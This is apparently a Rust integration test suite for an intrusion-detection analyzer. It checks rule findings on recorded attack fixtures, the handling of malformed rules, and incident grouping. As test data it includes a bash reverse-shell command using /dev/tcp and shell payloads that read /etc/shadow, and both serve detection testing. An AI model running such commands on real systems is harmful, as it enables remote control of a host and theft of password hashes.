//! Detections end to end: every recorded fixture yields the findings it should and no
//! others, benign fixtures stay quiet, rules are refused with a reason when malformed,
//! sequences respect their window and ancestry, incidents group along the process graph.

mod common;

use common::{analyzer, ok, root, text};
use rewind_schema::builder::TraceBuilder;
use std::collections::BTreeSet;
use std::net::SocketAddr;
use std::path::Path;

const MS: u64 = 1_000_000;
const S: u64 = 1_000 * MS;

/// (rule id, process `name[pid]`) of every finding `analyzer detect --json` reports.
fn findings(args: &[&str]) -> BTreeSet<(String, String)> {
    let mut all = vec!["detect", "-q", "--json"];
    all.extend_from_slice(args);
    ok(&all)
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("json line");
            (
                v["rule"]["id"].as_str().expect("id").to_string(),
                v["process"].as_str().expect("process").to_string(),
            )
        })
        .collect()
}

fn set(v: &[(&str, &str)]) -> BTreeSet<(String, String)> {
    v.iter()
        .map(|(a, b)| (a.to_string(), b.to_string()))
        .collect()
}

#[test]
fn every_fixture_yields_its_detections_and_no_others() {
    let expected: &[(&str, &[(&str, &str)])] = &[
        ("benign-build", &[]),
        ("container", &[("RW-NS-005", "unshare[15825]")]),
        (
            "http-redirect-tls",
            &[
                ("RW-NET-001", "curl[15903]"),
                ("RW-NET-001", "openssl[15901]"),
                ("RW-NET-004", "python3[15889]"),
            ],
        ),
        (
            "lateral-movement",
            &[
                ("RW-LATERAL-001", "curl[15942]"),
                ("RW-NET-004", "python3[15936]"),
                ("RW-NET-004", "python3[15937]"),
                ("RW-PROC-002", "curl[15941]"),
            ],
        ),
        ("memfd-exec", &[("RW-EXEC-001", "3[15969]")]),
        ("package-manager", &[]),
        (
            "persistence",
            &[
                ("RW-PERSIST-001", "tee[15993]"),
                ("RW-PERSIST-003", "bash[15989]"),
                ("RW-PERSIST-003", "bash[15995]"),
                ("RW-PERSIST-004", "bash[15999]"),
            ],
        ),
        (
            "reverse-shell",
            &[
                ("RW-FILE-004", "cat[16036]"),
                ("RW-NET-004", "python3[16029]"),
                ("RW-PROC-001", "bash[16033]"),
                ("RW-PROC-002", "bash[16033]"),
                ("RW-PROC-003", "id[16034]"),
                ("RW-PROC-003", "uname[16035]"),
            ],
        ),
        // The same attack under fixtures/policies/reverse-shell-live.yaml: stopped at the
        // shell's connect, so none of the shell's findings exist; the block itself is one.
        (
            "reverse-shell-blocked",
            &[
                ("RW-ENF-001", "bash[12604]"),
                ("RW-NET-004", "python3[12600]"),
            ],
        ),
        (
            "sensitive-files",
            &[
                ("RW-FILE-001", "cat[16066]"),
                ("RW-FILE-002", "cat[16070]"),
                ("RW-FILE-004", "cat[16066]"),
                ("RW-FILE-004", "cat[16068]"),
                ("RW-FILE-004", "head[16067]"),
            ],
        ),
        (
            "setuid-escalation",
            &[
                ("RW-EXEC-002", "env-suid[16111]"),
                ("RW-EXEC-002", "id-suid[16110]"),
                ("RW-PRIV-001", "env-suid[16111]"),
                ("RW-PRIV-001", "id-suid[16110]"),
                ("RW-PRIV-002", "env-suid[16111]"),
                ("RW-PRIV-002", "id-suid[16110]"),
                ("RW-PRIV-004", "chmod[16109]"),
            ],
        ),
    ];
    let mut names: Vec<String> = std::fs::read_dir(root().join("fixtures"))
        .expect("fixtures")
        .filter_map(|e| {
            let n = e.ok()?.file_name().to_string_lossy().into_owned();
            n.strip_suffix(".zst").map(str::to_string)
        })
        .collect();
    names.sort();
    let listed: Vec<String> = expected.iter().map(|(n, _)| n.to_string()).collect();
    assert_eq!(
        names, listed,
        "every fixture needs its expected detections here"
    );
    for (name, want) in expected {
        let got = findings(&[&format!("fixtures/{name}.zst")]);
        assert_eq!(got, set(want), "findings on {name}");
    }
}

#[test]
fn benign_fixtures_have_no_high_severity_findings() {
    for name in ["benign-build", "package-manager", "http-redirect-tls"] {
        let out = ok(&[
            "detect",
            "-q",
            "--json",
            "--min-severity",
            "high",
            &format!("fixtures/{name}.zst"),
        ]);
        assert_eq!(out, "", "{name} has high findings");
    }
}

#[test]
fn builtin_rules_compile_and_their_tests_pass() {
    let out = ok(&["rules", "test"]);
    assert!(out.contains(", 0 failed --"), "{out}");
    let list = ok(&["rules", "list"]);
    let n = list.lines().filter(|l| l.starts_with("RW-")).count();
    assert!(n >= 30, "built-in rules: {n}\n{list}");
    // Every rule carries an ATT&CK technique.
    for l in list.lines().filter(|l| l.starts_with("RW-")) {
        assert!(l.contains(" T1"), "rule without ATT&CK id: {l}");
    }
}

#[test]
fn every_documented_field_resolves() {
    let doc = std::fs::read_to_string(root().join("analyzer/rules/README.md")).expect("doc");
    let names = rewind_analyzer::detect::fact::Field::names();
    for n in &names {
        let short = n.split_once('.').map(|(_, f)| f).unwrap_or(n);
        assert!(
            doc.contains(&format!("`{n}`")) || doc.contains(&format!("`{short}`")),
            "field {n} is not documented in analyzer/rules/README.md"
        );
    }
}

fn bad_rule(body: &str) -> String {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("bad.yml");
    std::fs::write(&p, body).expect("write");
    let out = analyzer(&[
        "detect",
        "-q",
        "--no-builtin",
        "--rules",
        dir.path().to_str().expect("utf8"),
        "fixtures/reverse-shell.zst",
    ]);
    assert_eq!(out.status.code(), Some(1), "{body}");
    let err = text(&out.stderr);
    assert!(err.contains("bad.yml"), "error names the file: {err}");
    err
}

#[test]
fn malformed_rules_are_refused_with_the_reason() {
    let head = "id: X-1\ntitle: t\nseverity: high\nattack: [T1059]\n";
    let cases = [
        (
            "match:\n  event: exec\n  process.nmae: bash\n",
            "unknown field \"process.nmae\"",
        ),
        (
            "match:\n  event: exec\n  process.name|sorta: bash\n",
            "unknown operator \"sorta\"",
        ),
        (
            "match:\n  event: exec\n  process.name|re: '(('\n",
            "bad regex",
        ),
        ("match:\n  process.name: bash\n", "which `event` types"),
        ("match:\n  event: exek\n", "unknown event type \"exek\""),
        (
            "match:\n  event: exec\nexplain: \"{nope}\"\n",
            "unknown field \"nope\"",
        ),
        (
            "match:\n  event: exec\nfrobnicate: 1\n",
            "unknown key \"frobnicate\"",
        ),
        (
            "sequence:\n  within: 1m\n  steps:\n    - event: exec\n",
            "two or more",
        ),
        (
            "sequence:\n  within: soon\n  steps:\n    - event: exec\n    - event: exit\n",
            "bad duration",
        ),
        ("match: [1, 2]\n", "mapping"),
    ];
    for (body, want) in cases {
        let err = bad_rule(&format!("{head}{body}"));
        assert!(err.contains(want), "{body}: expected {want:?} in {err}");
    }
    let err = bad_rule("id: X-1\ntitle: t\nseverity: urgent\nmatch:\n  event: exec\n");
    assert!(err.contains("unknown severity"), "{err}");
    let err =
        bad_rule("id: X-1\ntitle: t\nseverity: high\nattack: [execution]\nmatch:\n  event: exec\n");
    assert!(err.contains("not an ATT&CK technique id"), "{err}");
    let err = bad_rule("id: [\n");
    assert!(err.contains("bad.yml"), "{err}");
    // Two rules with one id.
    let err = bad_rule(&format!(
        "{head}match:\n  event: exec\n---\n{head}match:\n  event: exit\n"
    ));
    assert!(err.contains("defined twice"), "{err}");
}

fn addr(s: &str) -> SocketAddr {
    s.parse().expect("addr")
}

/// A service (python3) whose child shell connects out `delay` after it starts; `other`
/// processes do the same outside its tree.
fn service_trace(p: &Path, delay: u64, related: bool) {
    let mut b = TraceBuilder::new(p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(100, 1, "/usr/bin/python3", &["python3", "app.py"], 0)
        .existing(200, 1, "/usr/bin/bash", &["bash"], 0)
        .create()
        .expect("create");
    let t = b.start_ns() + S;
    b.fork(t, 100, 300).expect("fork");
    b.exec(t + MS, 300, 100, "/bin/sh", &["sh", "-c", "x"])
        .expect("exec");
    let who = if related { 300 } else { 200 };
    b.connect(
        t + delay,
        who,
        7,
        addr("10.0.0.2:40000"),
        addr("10.0.0.9:4444"),
        0,
    )
    .expect("connect");
    b.finish().expect("finish");
}

const SEQ_RULE: &str = "id: T-SEQ
title: service shell then connect
severity: high
attack: [T1059]
sequence:
  within: 10s
  by: descendants
  steps:
    - event: exec
      process.name: sh
      parent.name: python3
    - event: connect
      net.remote_port: 4444
explain: \"{s1.proc} from {s1.parent.name}, then {s2.proc} to {s2.net.remote_ip}\"
";

fn with_rule(rule: &str, trace: &Path) -> Vec<serde_json::Value> {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(dir.path().join("r.yml"), rule).expect("write");
    ok(&[
        "detect",
        "-q",
        "--json",
        "--no-builtin",
        "--rules",
        dir.path().to_str().expect("utf8"),
        trace.to_str().expect("utf8"),
    ])
    .lines()
    .map(|l| serde_json::from_str(l).expect("json"))
    .collect()
}

#[test]
fn sequences_respect_window_and_ancestry() {
    let dir = tempfile::tempdir().expect("tmp");
    let inside = dir.path().join("inside.zst");
    service_trace(&inside, 2 * S, true);
    let f = with_rule(SEQ_RULE, &inside);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(
        f[0]["explanation"],
        "sh[300] from python3, then sh[300] to 10.0.0.9"
    );
    assert_eq!(f[0]["evidence"].as_array().map(Vec::len), Some(2));
    assert_eq!(f[0]["rule"]["attack"][0], "T1059");

    let late = dir.path().join("late.zst");
    service_trace(&late, 20 * S, true);
    assert!(with_rule(SEQ_RULE, &late).is_empty(), "outside the window");

    let unrelated = dir.path().join("unrelated.zst");
    service_trace(&unrelated, 2 * S, false);
    assert!(
        with_rule(SEQ_RULE, &unrelated).is_empty(),
        "a connect outside the shell's tree"
    );
    // by: host accepts it.
    let host = SEQ_RULE.replace("by: descendants", "by: host");
    assert_eq!(with_rule(&host, &unrelated).len(), 1);
}

#[test]
fn operators_match_as_documented() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("t.zst");
    service_trace(&p, 2 * S, true);
    let rule =
        |cond: &str| format!("id: T-1\ntitle: t\nseverity: low\nmatch:\n  event: connect\n{cond}");
    let hits = |cond: &str| with_rule(&rule(cond), &p).len();
    assert_eq!(hits("  net.remote_ip|cidr: 10.0.0.0/8\n"), 1);
    assert_eq!(hits("  net.remote_ip|cidr: 192.168.0.0/16\n"), 0);
    assert_eq!(hits("  net.remote_port|ge: 4444\n"), 1);
    assert_eq!(hits("  net.remote_port|gt: 4444\n"), 0);
    assert_eq!(hits("  process.exe|endswith: /sh\n"), 1);
    assert_eq!(hits("  process.cmdline|contains: '-c'\n"), 1);
    assert_eq!(hits("  process.exe|glob: '/b*/sh'\n"), 1);
    assert_eq!(hits("  process.exe|re: '^/usr'\n"), 0);
    assert_eq!(hits("  ancestors.name: python3\n"), 1);
    assert_eq!(hits("  ancestors.name: init\n"), 1);
    assert_eq!(hits("  ancestors.name: bash\n"), 0);
    assert_eq!(hits("  process.args: ['-c']\n"), 1);
    assert_eq!(
        hits("  net.remote_private: true\n  net.remote_loopback: false\n"),
        1
    );
    assert_eq!(
        hits("  file.path|exists: false\n"),
        1,
        "file.path does not apply to a connect"
    );
    assert_eq!(
        hits("  any:\n    - process.name: nope\n    - process.name: sh\n"),
        1
    );
    assert_eq!(hits("  not:\n    process.name: sh\n"), 0);
}

/// Two unrelated services, each with a reverse-shell-like finding; optionally linked by a
/// loopback connection between the trees, optionally hours apart.
fn two_trees(p: &Path, linked: bool, gap: u64) {
    let mut b = TraceBuilder::new(p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(100, 1, "/usr/bin/python3", &["python3", "a.py"], 0)
        .existing(200, 1, "/usr/bin/node", &["node", "b.js"], 0)
        .create()
        .expect("create");
    let t = b.start_ns() + S;
    b.fork(t, 100, 300).expect("fork");
    b.exec(t + MS, 300, 100, "/bin/bash", &["bash", "-i"])
        .expect("exec");
    b.fork(t + gap, 200, 400).expect("fork");
    b.exec(t + gap + MS, 400, 200, "/bin/bash", &["bash", "-i"])
        .expect("exec");
    // Each shell reads /etc/shadow (RW-FILE-001).
    for (pid, at) in [(300, t + 2 * MS), (400, t + gap + 2 * MS)] {
        b.open(at, pid, "/etc/shadow", 0, 3).expect("open");
    }
    if linked {
        let (a, c) = (addr("127.0.0.1:5000"), addr("127.0.0.1:6000"));
        b.connect(t + gap + 3 * MS, 300, 11, c, a, 0)
            .expect("connect");
        b.accept(t + gap + 3 * MS + 1, 400, 12, a, c)
            .expect("accept");
        b.close(t + gap + 4 * MS, 300, 11, c, a, 10, 10, MS)
            .expect("close");
        b.close(t + gap + 4 * MS, 400, 12, a, c, 10, 10, MS)
            .expect("close");
    }
    b.finish().expect("finish");
}

fn incidents(p: &Path) -> Vec<serde_json::Value> {
    ok(&["incidents", "-q", "--json", p.to_str().expect("utf8")])
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect()
}

#[test]
fn incidents_group_by_tree_connection_and_time() {
    let dir = tempfile::tempdir().expect("tmp");
    let apart = dir.path().join("apart.zst");
    two_trees(&apart, false, 5 * S);
    let v = incidents(&apart);
    assert_eq!(v.len(), 2, "two unrelated trees: {v:#?}");
    assert!(v[0]["incident"]["root"]
        .as_str()
        .expect("root")
        .contains("python3[100]"));
    assert!(v[1]["incident"]["root"]
        .as_str()
        .expect("root")
        .contains("node[200]"));

    let linked = dir.path().join("linked.zst");
    two_trees(&linked, true, 5 * S);
    let v = incidents(&linked);
    assert_eq!(v.len(), 1, "a connection links the trees: {v:#?}");
    // Both shadow reads, and the python3-spawned shell that connected out (RW-PROC-002).
    let ids: BTreeSet<&str> = v[0]["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| f["rule"]["id"].as_str().expect("id"))
        .collect();
    assert_eq!(v[0]["findings"].as_array().map(Vec::len), Some(3));
    assert_eq!(ids, BTreeSet::from(["RW-FILE-001", "RW-PROC-002"]));
    assert_eq!(v[0]["incident"]["severity"], "high");

    // Same link, but the findings are two hours apart: two incidents (window 1h).
    let late = dir.path().join("late.zst");
    two_trees(&late, true, 7_200 * S);
    assert_eq!(incidents(&late).len(), 2);
    let out = ok(&[
        "incidents",
        "-q",
        "--window",
        "3h",
        late.to_str().expect("utf8"),
    ]);
    // (the shell's connect comes two hours after its start: no RW-PROC-002 this time)
    assert!(out.contains("-- 1 incidents from 2 findings --"), "{out}");
    assert!(out.contains("entry:    bash[300]"), "{out}");
}

#[test]
fn timeline_of_an_incident_shows_its_processes_only() {
    let dir = tempfile::tempdir().expect("tmp");
    let apart = dir.path().join("apart.zst");
    two_trees(&apart, false, 5 * S);
    let p = apart.to_str().expect("utf8");
    let one = ok(&["timeline", "-q", "--incident", "1", p]);
    assert!(one.contains("bash[300]"), "{one}");
    assert!(!one.contains("bash[400]"), "{one}");
    let two = ok(&["timeline", "-q", "--incident", "2", p]);
    assert!(
        two.contains("bash[400]") && !two.contains("bash[300]"),
        "{two}"
    );
    let out = analyzer(&["timeline", "-q", "--incident", "3", p]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("there is no incident 3"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn detection_output_warns_about_loss() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("loss.zst");
    let mut b = TraceBuilder::new(&p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .create()
        .expect("create");
    let t = b.start_ns() + S;
    b.loss(t, 0, 42, t - MS, t).expect("loss");
    b.open(t + MS, 1, "/etc/shadow", 0, 3).expect("open");
    b.finish().expect("finish");
    let p = p.to_str().expect("utf8");
    let out = ok(&["detect", "-q", p]);
    assert!(out.contains("42 records were lost"), "{out}");
    let out = ok(&["incidents", "-q", p]);
    assert!(out.contains("42 records were lost"), "{out}");
}

#[test]
fn reverse_shell_incident_tells_the_story() {
    let out = ok(&["incidents", "-q", "fixtures/reverse-shell.zst"]);
    assert!(
        out.starts_with("Incident 1  CRITICAL Reverse shell"),
        "{out}"
    );
    assert!(out.contains("entry:    python3[16031]"), "{out}");
    for line in [
        "exec /bin/sh: /bin/sh -c echo rendering report x; bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/14444 0>&1'",
        "connected to 127.0.0.1:14444 (tcp)",
        "exec /usr/bin/id: id",
        "! CRITICAL RW-PROC-001",
    ] {
        assert!(out.contains(line), "missing {line:?} in\n{out}");
    }
    assert!(
        out.ends_with("-- 1 incidents from 6 findings --\n"),
        "{out}"
    );
}

/// A gain of root is a credential change that took effect: `su` started by a user who
/// then fails to authenticate (a set-id exec, then exit 1) and a refused setuid(0) raise
/// nothing; `su` that authenticates (setresuid making the real uid 0) and a non-set-id
/// program running with euid 0 for a user (root kept from an exploited set-id parent) do.
#[test]
fn only_credential_changes_that_took_effect_gain_root() {
    use rewind_schema::wire::{self, Comm, Creds};
    use rewind_schema::EventKind;
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("su.zst");
    let mut b = TraceBuilder::new(&p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(900, 1, "/bin/bash", &["bash"], 1000)
        .create()
        .expect("create");
    let t = b.start_ns() + S;
    let setid_exec = |path: &str, mode: u32, uid: u32, euid: u32| {
        EventKind::Exec(Box::new(wire::Exec {
            proc_start: t,
            ppid: 900,
            uid,
            gid: 1000,
            euid,
            egid: 1000,
            auid: 1000,
            exe_mode: mode,
            argc: 1,
            comm: Comm::new(path.rsplit('/').next().expect("name")),
            filename: path.into(),
            argv: wire::Argv(vec![path.into()]),
            cwd: "/home/u".into(),
            cgroup: "/user.slice".into(),
            ..Default::default()
        }))
    };
    let cred = |old_uid: u32, new_uid: u32, ret: i32| {
        let c = |uid: u32| Creds {
            uid,
            euid: 0,
            suid: 0,
            fsuid: 0,
            gid: 1000,
            egid: 1000,
            sgid: 1000,
            fsgid: 1000,
        };
        EventKind::Cred(wire::Cred {
            old: c(old_uid),
            new: c(new_uid),
            syscall: 117, // setresuid
            ret,
        })
    };
    // 1. su, wrong password: set-id exec, a refused setresuid, exit 1.
    b.fork(t, 900, 901).expect("fork");
    b.event(t + MS, 901, setid_exec("/usr/bin/su", 0o104755, 1000, 0))
        .expect("exec");
    b.event(t + 2 * MS, 901, cred(1000, 1000, -1))
        .expect("cred");
    b.exit(t + 3 * MS, 901, 1).expect("exit");
    // 2. su, right password: setresuid(0, 0, 0) succeeds.
    b.fork(t + 10 * MS, 900, 902).expect("fork");
    b.event(
        t + 11 * MS,
        902,
        setid_exec("/usr/bin/su", 0o104755, 1000, 0),
    )
    .expect("exec");
    b.event(t + 12 * MS, 902, cred(1000, 0, 0)).expect("cred");
    b.exit(t + 13 * MS, 902, 0).expect("exit");
    // 3. An exploited set-id program keeps euid 0 into a shell that is not set-id.
    b.fork(t + 20 * MS, 900, 903).expect("fork");
    b.event(t + 21 * MS, 903, setid_exec("/bin/sh", 0o100755, 1000, 0))
        .expect("exec");
    b.exit(t + 22 * MS, 903, 0).expect("exit");
    b.finish().expect("finish");

    let got = findings(&[p.to_str().expect("utf8")]);
    let gains: Vec<&str> = got
        .iter()
        .filter(|(r, _)| r == "RW-PRIV-002")
        .map(|(_, p)| p.as_str())
        .collect();
    assert_eq!(gains, vec!["sh[903]", "su[902]"], "{got:?}");
    let tl = ok(&["timeline", "--color", "never", p.to_str().expect("utf8")]);
    assert_eq!(tl.matches("GAINED ROOT").count(), 1, "{tl}");
    assert!(
        tl.contains("GAINED ROOT via setresuid: uid 1000->0"),
        "{tl}"
    );
}

/// Incidents lead with the worst: a low-severity incident early in the trace and a
/// critical one later are listed (and numbered) critical first.
#[test]
fn incidents_are_ordered_by_severity_then_time() {
    let dir = tempfile::tempdir().expect("tmp");
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).expect("mkdir");
    std::fs::write(
        rules.join("r.yml"),
        "id: T-LOW\ntitle: low thing\nseverity: low\nattack: [T1059]\nmatch:\n  event: exec\n  process.name: early\n---\nid: T-CRIT\ntitle: critical thing\nseverity: critical\nattack: [T1059]\nmatch:\n  event: exec\n  process.name: late\n",
    )
    .expect("write");
    let p = dir.path().join("t.zst");
    let mut b = TraceBuilder::new(&p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(100, 1, "/usr/bin/a", &["a"], 0)
        .existing(200, 1, "/usr/bin/b", &["b"], 0)
        .create()
        .expect("create");
    let t = b.start_ns() + S;
    b.fork(t, 100, 300).expect("fork");
    b.exec(t + MS, 300, 100, "/usr/bin/early", &["early"])
        .expect("exec");
    b.fork(t + 10 * S, 200, 400).expect("fork");
    b.exec(t + 10 * S + MS, 400, 200, "/usr/bin/late", &["late"])
        .expect("exec");
    b.finish().expect("finish");
    let (r, p) = (rules.to_str().expect("utf8"), p.to_str().expect("utf8"));
    let out = ok(&["incidents", "-q", "--no-builtin", "--rules", r, p]);
    let heads: Vec<&str> = out.lines().filter(|l| l.starts_with("Incident")).collect();
    assert_eq!(
        heads,
        [
            "Incident 1  CRITICAL critical thing: late[400]",
            "Incident 2  LOW low thing: early[300]"
        ],
        "{out}"
    );
    // The same numbers everywhere: timeline --incident 1 is the critical one.
    let one = ok(&[
        "timeline",
        "-q",
        "--no-builtin",
        "--rules",
        r,
        "--incident",
        "1",
        p,
    ]);
    assert!(
        one.contains("late[400]") && !one.contains("early[300]"),
        "{one}"
    );
    // The report tells them in the same order.
    let html = dir.path().join("r.html");
    ok(&[
        "report",
        "-q",
        "--no-builtin",
        "--rules",
        r,
        "-o",
        html.to_str().expect("utf8"),
        p,
    ]);
    let body = std::fs::read_to_string(&html).expect("report");
    let at = |s: &str| body.find(s).unwrap_or_else(|| panic!("{s} not in report"));
    assert!(at("critical thing: late[400]") < at("low thing: early[300]"));
}

/// The story root is the top of the attack's own ancestry: a long-lived harness with a
/// huge command line that ran much unrelated work is not it, and the command lines shown
/// in root and entry are capped.
#[test]
fn a_harness_is_not_the_story_root() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path().join("t.zst");
    let huge = format!("--config={}", "x".repeat(816));
    let payload = format!("echo {}; cat /etc/shadow", "y".repeat(300));
    let mut b = TraceBuilder::new(&p)
        .existing(1, 0, "/sbin/init", &["/sbin/init"], 0)
        .existing(50, 1, "/usr/bin/harness", &["harness", &huge], 0)
        .create()
        .expect("create");
    // Ten minutes into the recording, after many unrelated jobs.
    let t = b.start_ns() + 600 * S;
    for k in 0..10u32 {
        let pid = 500 + k;
        let at = t + u64::from(k) * S;
        b.fork(at, 50, pid).expect("fork");
        b.exec(at + MS, pid, 50, "/bin/sleep", &["sleep", "0"])
            .expect("exec");
        b.exit(at + 2 * MS, pid, 0).expect("exit");
    }
    let t = t + 20 * S;
    b.fork(t, 50, 600).expect("fork");
    b.exec(t + MS, 600, 50, "/bin/bash", &["bash", "-c", &payload])
        .expect("exec");
    b.fork(t + 2 * MS, 600, 601).expect("fork");
    b.exec(t + 3 * MS, 601, 600, "/bin/cat", &["cat", "/etc/shadow"])
        .expect("exec");
    b.open(t + 4 * MS, 601, "/etc/shadow", 0, 3).expect("open");
    b.finish().expect("finish");
    let out = ok(&["incidents", "-q", p.to_str().expect("utf8")]);
    let root = out
        .lines()
        .find(|l| l.starts_with("  root:"))
        .expect("root line");
    assert!(root.contains("bash[600]"), "{out}");
    assert!(!out.contains("harness"), "{out}");
    assert!(root.ends_with("…(+130 chars)"), "{root}");
    assert!(root.chars().count() < 260, "{root}");
}
